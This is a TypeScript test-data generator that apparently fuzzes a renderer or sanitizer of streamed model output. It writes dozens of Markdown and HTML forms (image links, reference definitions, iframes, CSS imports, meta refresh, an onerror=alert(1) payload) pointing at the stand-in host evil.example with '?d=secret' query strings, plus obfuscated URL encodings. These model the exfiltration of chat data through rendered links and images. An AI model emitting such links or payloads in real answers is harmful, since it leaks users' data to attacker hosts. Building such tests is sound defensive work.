/** Random choices of one seed. */
export type Random = () => number;

const host = 'evil.example';
const pick = <Item>(random: Random, items: readonly Item[]): Item =>
  items[Math.floor(random() * items.length)] as Item;

/** Ways to write the address of a foreign host. */
const addresses = [
  `https://${host}/p?d=secret`,
  `http://${host}/p?d=secret`,
  `//${host}/p?d=secret`,
  `HTTPS://${host}/p`,
  `https:\\\\${host}/p`,
  `\\\\${host}/p`,
  `/\\${host}/p`,
  `\\/\\/${host}/p`,
  `&#47;&#47;${host}/p`,
  `&sol;&sol;${host}/p`,
  `https&colon;//${host}/p`,
  `&#104;ttps://${host}/p`,
  `https:${host}/p`,
  `https:///${host}/p`,
  `http:/\\${host}`,
  `ftp://${host}/p`,
  `//${host}`,
  `https://user@${host}:443/p`,
  `javascript:fetch('//${host}')`,
  `data:text/html,<img src=//${host}>`,
] as const;

const titles = ['', ' "words"', " 'words'", ' (words)', ' =100x100', '\n"words"'];
const labels = [
  'x',
  '[x]',
  'a\\]b',
  'a[b]c',
  'a `b` c',
  '**x**',
  '',
  'a\nb',
  '![y](y)',
  'x]y',
  '<b>x</b>',
  '$x$',
];

type Form = (address: string, random: Random) => string;

const inline: Form = (address, random) =>
  `[${pick(random, labels)}](${pick(random, ['', ' ', '<', '\n'])}${address}${pick(random, titles)}${pick(random, ['', '>', ' '])})`;
const definition: Form = (address, random) =>
  `${pick(random, ['', ' ', '> ', '- ', '1. '])}[${pick(random, ['x', 'X', '^1', 'a b'])}]:${pick(random, [' ', '\n', '\t', ' <'])}${address}${pick(random, ['', '>', ' "t"'])}`;

const forms: readonly Form[] = [
  (address, random) => `!${inline(address, random)}`,
  (address, random) => `! ${inline(address, random)}`,
  inline,
  (address, random) => `[!${inline(address, random)}](${address})`,
  (address, random) => `![x][x]\n\n${definition(address, random)}`,
  (address, random) => `![x]\n\nMore words.\n\n${definition(address, random)}\n`,
  (address, random) => `${definition(address, random)}\n\nSee [x] and ![x][] and [a b] and ![X] .`,
  (address, random) => `Words.[^1]\n\n[^1]: !${inline(address, random)}`,
  (address) => `<${address}>`,
  (address) => `See ${address} for more.`,
  (address) => `See ${address.replace(/^[a-z]+:\/\//i, 'www.')} for more.`,
  () => `Write to attacker@${host} now.`,
  (address) => `<img src="${address}">`,
  (address) => `<img src=${address} onerror=alert(1)`,
  (address) => `<IMG\nSRC='${address}'\n/>`,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<svg><image xlink:href="${address}"/></svg>`,
  (address) => `<picture><source srcset="${address} 2x"></picture>`,
  (address) => `<div style="background:url(${address})">x</div>`,
  (address) => `<style>@import url(${address});</style>`,
  (address) => `<iframe srcdoc="&lt;img src='${address}'>"></iframe>`,
  (address) => `<object data="${address}"></object><embed src="${address}">`,
  (address) => `<link rel=stylesheet href="${address}"><meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
  (address) => `<video poster="${address}" src="${address}"><audio src="${address}">`,
  (address) => `<!-- x --><input type=image src="${address}">`,
  (address) => `<![CDATA[x]]><?x?><body background="${address}">`,
  (address, random) => `\`a | !${inline(address, random)}\``,
  (address, random) => `| a | b |\n|---|---|\n| \`x | !${inline(address, random)} | y\` |`,
  (address, random) => `A tick \` alone. Then \`!${inline(address, random)}\` follows.`,
  (address, random) => `    !${inline(address, random)}`,
  (address, random) => `Words.\`\`\`md\n!${inline(address, random)}\n\`\`\``,
  (address, random) => `\`\`\`html\n<img src="${address}">\n!${inline(address, random)}\n`,
  (address, random) => `~~~\n${definition(address, random)}\n~~~\n\n![x]`,
  (address, random) => `> !${inline(address, random)}\n> - ${inline(address, random)}`,
  (address, random) => `# !${inline(address, random)}\nx\n===`,
  (address, random) => `*a **b !${inline(address, random)}* c**`,
  (address) => `[x] (${address}) and ![x] (${address}) and ![x] [y]\n\n  [y]: ${address}`,
  (address) => `(${address})`,
  (address) => `Ready. [1](${address})`,
  (address) => `![1: "copied words"](${address})`,
  (address) => `!\\[x](${address}) \\![x](${address}) !\u200b[x](${address})`,
  (address) => `&#33;[x](${address}) &lt;img src="${address}"&gt;`,
  (address) => `[x]: <\n${address}>\n[x]`,
  (address) => `![x](<${address}\n> "t") ![x]( ${address} )`,
];

/** Texts in which a model writes addresses of a foreign host as Markdown and HTML know them, between harmless sentences. */
export function hostileAnswers(count: number, random: Random): string[] {
  const harmless = [
    'The rule is old.',
    'Rooms have windows [1].',
    '\n\n- a point',
    'Great!',
    'As follows:\n',
    '',
  ];
  return Array.from({ length: count }, (_, index) => {
    const form = forms[index % forms.length] as Form;
    const parts = [form, pick(random, forms)].map((one) => one(pick(random, addresses), random));
    return parts
      .map((part) => `${pick(random, harmless)}${pick(random, [' ', '\n', '\n\n', ''])}${part}`)
      .join(pick(random, [' ', '\n', '\n\n']));
  });
}

/** A text cut into pieces as a model may stream it. */
export function inPieces(text: string, random: Random): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    const size = 1 + Math.floor(random() * 12);
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}
